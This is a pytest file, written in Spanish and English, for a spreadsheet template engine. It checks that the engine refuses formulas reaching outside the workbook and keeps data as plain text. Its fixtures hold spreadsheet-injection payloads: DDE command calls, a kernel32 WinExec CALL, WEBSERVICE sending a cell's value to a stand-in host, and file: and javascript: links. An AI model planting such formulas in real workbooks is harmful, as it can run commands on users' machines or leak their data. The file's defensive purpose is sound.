"""Formulas that reach out of their book, and values that a cell cannot hold: never in silence."""
# ruff: noqa: E501  what is said stands whole on its line, as it is said

import io
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook
from openpyxl.utils.escape import unescape
from support.office_files import Finding, Rel, X, book, cell, formula, told
from support.refused import Bad, refuse

from plandocs.engine import Template, TemplateFault
from plandocs.engine.package import read_package

DATA = b"x: hola\n"
SHEET = "xl/worksheets/sheet1.xml"


def reach(name: str, kind: str, root: str) -> bytes:
    """Return a book whose sheet leads to a part."""
    return book(parts={f"xl/{name}": root}, relations=[Rel(SHEET, "rId9", kind, f"../{name}")])


def after(inside: str) -> bytes:
    """Return a book with something after the cells of its sheet."""
    return book(after=inside)


FORMULAS: dict[str, bytes] = {
    "a command": book(formula("B1", "cmd|' /C calc'!A0")),
    "a command in quotes": book(formula("B1", "'cmd|/c calc'!A1")),
    "a page read": book(formula("B1", 'WEBSERVICE("http://a.mx/?"&amp;A1)')),
    "a page read by its new name": book(
        formula("B1", '_xlfn.FILTERXML(_xlfn.WEBSERVICE(A1),"//a")')
    ),
    "a function of a library": book(formula("B1", 'CALL("kernel32","WinExec","JCJ","calc",0)')),
    "a function registered": book(formula("B1", 'register.id("a","b")')),
    "data sent live by a program": book(formula("B1", 'RTD("a.b",,"c")')),
    "a picture of the web": book(formula("B1", '_xlfn.IMAGE("https://a.mx/p.png")')),
    "stocks": book(formula("B1", '_xlfn.STOCKHISTORY("MSFT",TODAY())')),
    "a cube": book(formula("B1", 'CUBEVALUE("Ventas",A1)')),
    "Python in a cell": book(formula("B1", "_xlfn._xlws.PY(0,0)")),
    "a function of an add-in": book(formula("B1", "_xll.Trae(A1)")),
    "a function of another spreadsheet": book(formula("B1", 'IMPORTXML("http://a.mx","//a")')),
    "another book by its number": book(formula("B1", "[1]Hoja1!A1")),
    "a name of another book": book(formula("B1", "SUM([1]!Total,2)")),
    "another book by its path": book(formula("B1", "'C:\\datos\\[a.xlsx]Hoja1'!$A$1")),
    "a book of a share": book(formula("B1", "'\\\\srv\\[a.xlsx]Hoja1'!A1")),
    "a book of the web": book(formula("B1", "'http://a.mx/[a.xlsx]Hoja1'!A1")),
    "a share without quotes": book(formula("B1", "\\\\srv\\a!A1")),
    "another book by a text": book(formula("B1", 'INDIRECT("[a.xlsx]Hoja1!A1")')),
    "a link by formula": book(formula("B1", 'HYPERLINK("file:///C:/a.exe","Ver")')),
    "a link by formula to what runs": book(
        formula("B1", 'IF(A1="x",HYPERLINK("javascript:a"),"")')
    ),
    "a link to what the data says": book(formula("B1", 'HYPERLINK(A2,"Ver")')),
    "a link made of pieces": book(formula("B1", 'HYPERLINK("fi"&amp;"le:///a","Ver")')),
    "a formula of a name": book(
        names='<definedName name="Total">WEBSERVICE("http://a.mx")</definedName>'
    ),
    "a formula of a validation": after(
        '<dataValidations count="1"><dataValidation type="list" sqref="C3:C9"><formula1>[1]Hoja!$A$1:$A$9</formula1></dataValidation></dataValidations>'
    ),
    "a formula of a format": after(
        '<conditionalFormatting sqref="A1:B2"><cfRule type="expression" priority="1"><formula>RTD("a",,"b")</formula></cfRule></conditionalFormatting>'
    ),
    "a formula of a bar": after(
        '<conditionalFormatting sqref="A1"><cfRule type="dataBar" priority="1"><dataBar><cfvo type="formula" val="WEBSERVICE(&quot;http://a&quot;)"/></dataBar></cfRule></conditionalFormatting>'
    ),
    "a formula of a later Excel": after(
        '<extLst><ext uri="a"><x14:conditionalFormatting xmlns:x14="urn:x14" xmlns:xm="urn:xm"><xm:f>[1]Hoja!A1</xm:f><xm:sqref>D4</xm:sqref></x14:conditionalFormatting></ext></extLst>'
    ),
    "a formula of a table": reach(
        "tables/table1.xml",
        "table",
        f'<table xmlns="{X}" ref="A1:A2"><tableColumns count="1"><tableColumn id="1" name="a"><calculatedColumnFormula>[2]H!A1</calculatedColumnFormula></tableColumn></tableColumns></table>',
    ),
    "a formula of a text box": reach(
        "drawings/drawing1.xml", "drawing", '<wsDr><sp textlink="[1]H!$A$1"/></wsDr>'
    ),
    "a formula of a chart": reach(
        "charts/chart1.xml", "chart", "<chartSpace><f>[1]H!$A$1:$A$4</f></chartSpace>"
    ),
    "a place of a link": after(
        '<hyperlinks><hyperlink ref="B4" location="\'[a.xlsx]H\'!A1"/></hyperlinks>'
    ),
    "a formula by character codes": book(formula("B1", "&#87;EBSERVICE(A1)")),
    "an array": book(cell("B1", '<f t="array" ref="B1:B2">[1]Hoja!A1:A2</f>')),
}

HINTS: dict[str, list[str]] = {
    "error S308 formula-con-salida": [
        "escriba el valor en lugar de la fórmula, o calcule solo con celdas del mismo libro."
    ],
}

SAID: dict[str, list[Finding]] = {
    "a command": [
        (
            "error S308 formula-con-salida",
            "hoja «Hoja» · B1",
            "La fórmula llama a un programa o a una macro: «cmd|' /C calc'!A0».",
        ),
    ],
    "a command in quotes": [
        (
            "error S308 formula-con-salida",
            "hoja «Hoja» · B1",
            "La fórmula llama a un programa o a una macro: «'cmd|/c calc'!A1».",
        ),
    ],
    "a page read": [
        (
            "error S308 formula-con-salida",
            "hoja «Hoja» · B1",
            'La fórmula usa WEBSERVICE, que trae datos de internet: «WEBSERVICE("http://a.mx/?"&A1)».',
        ),
    ],
    "a page read by its new name": [
        (
            "error S308 formula-con-salida",
            "hoja «Hoja» · B1",
            'La fórmula usa FILTERXML, que trae datos de internet: «_xlfn.FILTERXML(_xlfn.WEBSERVICE(A1),"//a")».',
        ),
    ],
    "a function of a library": [
        (
            "error S308 formula-con-salida",
            "hoja «Hoja» · B1",
            'La fórmula usa CALL, que llama a un programa o a una macro: «CALL("kernel32","WinExec","JCJ","calc",0)».',
        ),
    ],
    "a function registered": [
        (
            "error S308 formula-con-salida",
            "hoja «Hoja» · B1",
            'La fórmula usa REGISTER.ID, que llama a un programa o a una macro: «register.id("a","b")».',
        ),
    ],
    "data sent live by a program": [
        (
            "error S308 formula-con-salida",
            "hoja «Hoja» · B1",
            'La fórmula usa RTD, que trae datos de otro programa o de un servidor: «RTD("a.b",,"c")».',
        ),
    ],
    "a picture of the web": [
        (
            "error S308 formula-con-salida",
            "hoja «Hoja» · B1",
            'La fórmula usa IMAGE, que trae datos de internet: «_xlfn.IMAGE("https://a.mx/p.png")».',
        ),
    ],
    "stocks": [
        (
            "error S308 formula-con-salida",
            "hoja «Hoja» · B1",
            'La fórmula usa STOCKHISTORY, que trae datos de internet: «_xlfn.STOCKHISTORY("MSFT",TODAY())».',
        ),
    ],
    "a cube": [
        (
            "error S308 formula-con-salida",
            "hoja «Hoja» · B1",
            'La fórmula usa CUBEVALUE, que trae datos de otro programa o de un servidor: «CUBEVALUE("Ventas",A1)».',
        ),
    ],
    "Python in a cell": [
        (
            "error S308 formula-con-salida",
            "hoja «Hoja» · B1",
            "La fórmula usa PY, que llama a un programa o a una macro: «_xlfn._xlws.PY(0,0)».",
        ),
    ],
    "a function of an add-in": [
        (
            "error S308 formula-con-salida",
            "hoja «Hoja» · B1",
            "La fórmula usa TRAE, que llama a un programa o a una macro: «_xll.Trae(A1)».",
        ),
    ],
    "a function of another spreadsheet": [
        (
            "error S308 formula-con-salida",
            "hoja «Hoja» · B1",
            'La fórmula usa IMPORTXML, que trae datos de internet: «IMPORTXML("http://a.mx","//a")».',
        ),
    ],
    "another book by its number": [
        (
            "error S308 formula-con-salida",
            "hoja «Hoja» · B1",
            "La fórmula lee otro archivo: «[1]Hoja1!A1».",
        ),
    ],
    "a name of another book": [
        (
            "error S308 formula-con-salida",
            "hoja «Hoja» · B1",
            "La fórmula lee otro archivo: «SUM([1]!Total,2)».",
        ),
    ],
    "another book by its path": [
        (
            "error S308 formula-con-salida",
            "hoja «Hoja» · B1",
            "La fórmula lee otro archivo: «'C:\\datos\\[a.xlsx]Hoja1'!$A$1».",
        ),
    ],
    "a book of a share": [
        (
            "error S308 formula-con-salida",
            "hoja «Hoja» · B1",
            "La fórmula lee otro archivo: «'\\\\srv\\[a.xlsx]Hoja1'!A1».",
        ),
    ],
    "a book of the web": [
        (
            "error S308 formula-con-salida",
            "hoja «Hoja» · B1",
            "La fórmula lee otro archivo: «'http://a.mx/[a.xlsx]Hoja1'!A1».",
        ),
    ],
    "a share without quotes": [
        (
            "error S308 formula-con-salida",
            "hoja «Hoja» · B1",
            "La fórmula lee otro archivo: «\\\\srv\\a!A1».",
        ),
    ],
    "another book by a text": [
        (
            "error S308 formula-con-salida",
            "hoja «Hoja» · B1",
            'La fórmula lee otro archivo: «INDIRECT("[a.xlsx]Hoja1!A1")».',
        ),
    ],
    "a link by formula": [
        (
            "error S308 formula-con-salida",
            "hoja «Hoja» · B1",
            'La fórmula usa HYPERLINK hacia una dirección que no es http, https ni mailto: «HYPERLINK("file:///C:/a.exe","Ver")».',
        ),
    ],
    "a link by formula to what runs": [
        (
            "error S308 formula-con-salida",
            "hoja «Hoja» · B1",
            'La fórmula usa HYPERLINK hacia una dirección que no es http, https ni mailto: «IF(A1="x",HYPERLINK("javascript:a"),"")».',
        ),
    ],
    "a link to what the data says": [
        (
            "error S308 formula-con-salida",
            "hoja «Hoja» · B1",
            'La fórmula usa HYPERLINK con una dirección que no está escrita en ella: «HYPERLINK(A2,"Ver")».',
        ),
    ],
    "a link made of pieces": [
        (
            "error S308 formula-con-salida",
            "hoja «Hoja» · B1",
            'La fórmula usa HYPERLINK hacia una dirección que no es http, https ni mailto: «HYPERLINK("fi"&"le:///a","Ver")».',
        ),
    ],
    "a formula of a name": [
        (
            "error S308 formula-con-salida",
            "",
            'El nombre definido «Total» usa WEBSERVICE, que trae datos de internet: «WEBSERVICE("http://a.mx")».',
        ),
    ],
    "a formula of a validation": [
        (
            "error S308 formula-con-salida",
            "hoja «Hoja» · C3:C9",
            "Una validación de datos lee otro archivo: «[1]Hoja!$A$1:$A$9».",
        ),
    ],
    "a formula of a format": [
        (
            "error S308 formula-con-salida",
            "hoja «Hoja» · A1:B2",
            'Un formato condicional usa RTD, que trae datos de otro programa o de un servidor: «RTD("a",,"b")».',
        ),
    ],
    "a formula of a bar": [
        (
            "error S308 formula-con-salida",
            "hoja «Hoja» · A1",
            'Un formato condicional usa WEBSERVICE, que trae datos de internet: «WEBSERVICE("http://a")».',
        ),
    ],
    "a formula of a later Excel": [
        (
            "error S308 formula-con-salida",
            "hoja «Hoja»",
            "Un formato condicional lee otro archivo: «[1]Hoja!A1».",
        ),
    ],
    "a formula of a table": [
        (
            "error S308 formula-con-salida",
            "hoja «Hoja»",
            "Una columna calculada de una tabla lee otro archivo: «[2]H!A1».",
        ),
    ],
    "a formula of a text box": [
        (
            "error S308 formula-con-salida",
            "hoja «Hoja»",
            "La fórmula lee otro archivo: «[1]H!$A$1».",
        ),
    ],
    "a formula of a chart": [
        (
            "error S308 formula-con-salida",
            "hoja «Hoja»",
            "Una gráfica lee otro archivo: «[1]H!$A$1:$A$4».",
        ),
    ],
    "a place of a link": [
        (
            "error S308 formula-con-salida",
            "hoja «Hoja» · B4",
            "El vínculo lee otro archivo: «'[a.xlsx]H'!A1».",
        ),
    ],
    "a formula by character codes": [
        (
            "error S308 formula-con-salida",
            "hoja «Hoja» · B1",
            "La fórmula usa WEBSERVICE, que trae datos de internet: «WEBSERVICE(A1)».",
        ),
    ],
    "an array": [
        (
            "error S308 formula-con-salida",
            "hoja «Hoja» · B1",
            "La fórmula lee otro archivo: «[1]Hoja!A1:A2».",
        ),
    ],
}

HEADER = "<headerFooter><oddHeader>&amp;L{{ x }}</oddHeader></headerFooter>"
TITLED = book(title="{{ x }}")
NAMED = book(names='<definedName name="Clave">"{{ x }}"</definedName>')
IN_DATA = "  en los datos: datos.yaml:1:4\n"
NUMBER = "acorte o corrija ese valor en los datos."
TITLE = (
    "use 31 letras o menos, sin repetir otra hoja y sin : \\ / ? * [ ] ni apóstrofo en la orilla."
)
TEXT = (
    "recorra la lista con «for», imprima uno de sus campos, o decida con «if»; una fecha se "
    "imprime con «strftime», y un valor que puede faltar, con «default»."
)
PLACE = "pase la etiqueta al cuerpo o a una celda, al encabezado o al pie."
AT = "hoja «Hoja» · A2"
AT_TITLE = "hoja «{{ x }}»"
VALIDATION = '<dataValidations count="1"><dataValidation type="list" {} sqref="C3"><formula1>"{}"</formula1></dataValidation></dataValidations>'
LINK = '<hyperlinks><hyperlink ref="A2" {}/></hyperlinks>'


def value(
    typed: str,
    sentence: str,
    rule: str = "P303 valor-que-excel-no-guarda",
    hint: str = NUMBER,
    template: bytes = b"",
    place: str = AT,
    column: int = 4,
) -> tuple[bytes, str, str]:
    """Return a template, what is typed in `x`, and what is said of it."""
    line = f"x: {typed}"
    shown = "".join(sign if sign.isprintable() else "·" for sign in line)
    shown = shown if len(shown) <= 1000 else f"{shown[:160]}…"  # a window around the fault
    caret = " " * (column - 1) + "^" * min(60, max(1, len(typed) if column == 4 else 1))
    excerpt = f"     1 │ {shown}\n       │ {caret}\n"
    where = f"plantilla.xlsx · {place}" if place else "plantilla.xlsx"
    said = f"error {rule}\n  {where}\n  en los datos: datos.yaml:1:{column}\n{excerpt}  {sentence}\n  pista: {hint}\n\n1 error. No se escribió nada."
    return template or book(), line, said


def misplaced(template: bytes, place: str, what: str) -> tuple[bytes, str, str]:
    """Return a template with a tag where no value may go, and what is said of it."""
    said = f"error P209 etiqueta-fuera-de-lugar\n  plantilla.xlsx · {place}\n  La etiqueta «{{{{ x }}}}» está en un lugar que no se rellena ({what}).\n  pista: {PLACE}\n\n1 error. No se escribió nada."
    return template, "x: a", said


def title(typed: str, name: str, reason: str) -> tuple[bytes, str, str]:
    """Return a sheet named by the data, and what is said of the name."""
    return value(
        typed,
        f"El nombre de hoja «{name}» {reason}.",
        "P307 nombre-de-hoja",
        TITLE,
        TITLED,
        AT_TITLE,
    )


VALUES: dict[str, tuple[bytes, str, str]] = {
    "a text too long": value(
        "a" * 32_768, "Excel no puede guardar un texto de 32768 caracteres (el límite es 32767)."
    ),
    "a text too long in pairs of units": value(
        "\U0001f600" * 16_384,
        "Excel no puede guardar un texto de 32768 caracteres (el límite es 32767).",
    ),
    "a number of sixteen figures": value(
        "1234567890123456", "Excel no puede guardar un número de 16 cifras (el límite es 15)."
    ),
    "a decimal of seventeen figures": value(
        "0.12345678901234567", "Excel no puede guardar un número de 17 cifras (el límite es 15)."
    ),
    "nothing": value(
        "~",
        "La plantilla imprime un valor vacío donde va un texto.",
        "P204 valor-sin-imprenta",
        TEXT,
    ),
    "a list": value(
        "[1]",
        "La plantilla imprime una lista donde va un texto.",
        "P204 valor-sin-imprenta",
        TEXT,
        column=1,
    ),
    "a group": value(
        "{a: 1}",
        "La plantilla imprime un grupo de campos donde va un texto.",
        "P204 valor-sin-imprenta",
        TEXT,
        column=1,
    ),
    "a sheet with brackets": title("'a[1]'", "a[1]", "lleva un signo que Excel no admite"),
    "a sheet with a path": title("../a", "../a", "lleva un signo que Excel no admite"),
    "a sheet between apostrophes": title('"\'a"', "'a", "lleva un signo que Excel no admite"),
    "a sheet too long": title("a" * 32, "a" * 32, "tiene 32 letras (el límite es 31)"),
    "a sheet without a name": title("''", "", "está vacío"),
    "a sheet of Excel's own": title("History", "History", "lo reserva Excel"),
    "a name of a text too long": value(
        "a" * 256,
        "Excel no puede guardar un texto de 256 caracteres (el límite es 255).",
        template=NAMED,
        place="",
    ),
    "a tag in a formula": misplaced(
        book(formula("B1", '"{{ x }}"')), "hoja «Hoja» · B1", "una fórmula"
    ),
    "a tag in a web link of a formula": misplaced(
        book(formula("B1", 'HYPERLINK("https://ejemplo.mx/{{ x }}")')),
        "hoja «Hoja» · B1",
        "una fórmula",
    ),
    "a tag in a link": misplaced(
        book(
            after=LINK.format('r:id="rId5"'),
            relations=[Rel(SHEET, "rId5", "hyperlink", "{{ x }}", "External")],
        ),
        "hoja «Hoja»",
        "un vínculo",
    ),
    "a tag in a place of a link": misplaced(
        book(after=LINK.format('location="{{ x }}"')), AT, "un vínculo"
    ),
    "a tag in a validation": misplaced(
        book(after=VALIDATION.format("", "{{ x }}")), "hoja «Hoja» · C3", "una validación"
    ),
    "a tag in a message of a validation": misplaced(
        book(after=VALIDATION.format('prompt="{{ x }}"', "a")), "hoja «Hoja» · C3", "una validación"
    ),
}


@pytest.mark.parametrize("name", FORMULAS)
def test_a_formula_that_reaches_out_is_refused(
    name: str, tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    files = {"plantilla.xlsx": FORMULAS[name], "datos.yaml": DATA}
    said = told("xlsx", SAID[name], HINTS)
    refuse(Bad(name, files, said, template="plantilla.xlsx"), tmp_path, capsys, monkeypatch)


@pytest.mark.parametrize("name", VALUES)
def test_a_value_that_a_cell_cannot_hold_is_refused(
    name: str, tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    template, data, said = VALUES[name]
    files = {"plantilla.xlsx": template, "datos.yaml": f"{data}\n".encode()}
    refuse(Bad(name, files, said, template="plantilla.xlsx"), tmp_path, capsys, monkeypatch)


HONEST_FORMULAS = [
    "SUM(Tabla1[Costo])", "SUM(Tabla1[[#This Row],[a|b]])", "SUM('Hoja 1:Hoja 3'!A1)", "'a|b'!A1", "'it''s'!A1", "'[no es]'&amp;1".replace("'", '"'),
    'HYPERLINK("https://ejemplo.mx","Ver")', 'HYPERLINK("https://"&amp;A1)', 'HYPERLINK("#Hoja!A1","Ir")', 'HYPERLINK("mailto:"&amp;A1)', 'INDIRECT("Tabla1[Costo]")',
    'IF(A1="cmd|","a","b")', '"\\\\srv"', 'TEXT(A1,"[$-80A]d mmm")', "_xlfn.LET(_xlpm.a,1,_xlpm.a+1)", "_xlfn.XLOOKUP(A1,B:B,C:C)", "WORKDAY(A1,5)", "callejon(1)", "TODAY()", "A1:A3*{1,2;3,4}",
]  # fmt: skip


@pytest.mark.parametrize("code", HONEST_FORMULAS)
def test_a_formula_of_its_own_book_stays(code: str) -> None:
    template = book(formula("B1", code), title="a|b" if "'a|b'" in code else "Hoja")
    assert Template(template, "p.xlsx").check() == ()


TEXTS = [
    "=1+1", "=cmd|' /C calc'!A0", "+1", "-1+1", "@SUM(A1)", "\t=1+1", "=HYPERLINK(\"file:///a\")", "#N/A", "#REF!", "TRUE", "FALSO", "1E5", "00123", "2025-03-01", "12:30", "1,5", "$5",
    "NaN", "Infinity", "-0", "file:///C:/a.exe", "{{ 7*7 }}", "{% if a %}", "_x0041_", "_x000D_", "__x0041_x0041_", " a ", "a\nb", "&lt;b&gt; & <b>", "'=1+1", "a" * 32_767, "\U0001f600" * 16_383,
]  # fmt: skip


@pytest.mark.parametrize("typed", TEXTS, ids=lambda typed: typed[:20])
def test_a_text_stays_as_it_was_typed(typed: str) -> None:
    made = Template(book(), "p.xlsx").render({"x": typed})
    sheet: Any = load_workbook(io.BytesIO(made)).worksheets[0]
    found = sheet["A2"]
    assert (unescape(found.value), found.data_type, found.hyperlink) == (typed, "s", None)
    assert b"<f" not in read_package(made)[SHEET]


def test_data_in_a_header_is_no_code_of_excel() -> None:
    made = read_package(Template(book(after=HEADER), "p.xlsx").render({"x": "a&Gb&D"}))[SHEET]
    assert b"<oddHeader>&amp;La&amp;&amp;Gb&amp;&amp;D</oddHeader>" in made


def test_data_in_the_text_of_a_name_ends_no_text() -> None:
    made = read_package(Template(NAMED, "p.xlsx").render({"x": '"&CMD()&"'}))["xl/workbook.xml"]
    assert b'>"""&amp;CMD()&amp;"""</definedName>' in made


@pytest.mark.parametrize(
    ("typed", "kept"),
    [("-0", b"0"), ("0.5", b"0.5"), ("-3", b"-3"), ("1e-300", b"0." + b"0" * 299 + b"1")],
)
def test_a_number_stays_a_number(typed: str, kept: bytes) -> None:
    made = Template(book(), "p.xlsx").render({"x": Decimal(typed)})
    assert b'<c r="A2"><v>' + kept + b"</v></c>" in read_package(made)[SHEET]


@pytest.mark.parametrize("typed", ["1e-400", "-1e-308", "1e-999999999"])
def test_a_number_that_excel_would_read_as_zero_is_refused_at_once(typed: str) -> None:
    with pytest.raises(TemplateFault) as raised:
        Template(book(), "p.xlsx").render({"x": Decimal(typed)})
    (found,) = raised.value.diagnostics
    assert found.message == "Excel no puede guardar un número tan pequeño que lo leería como cero."
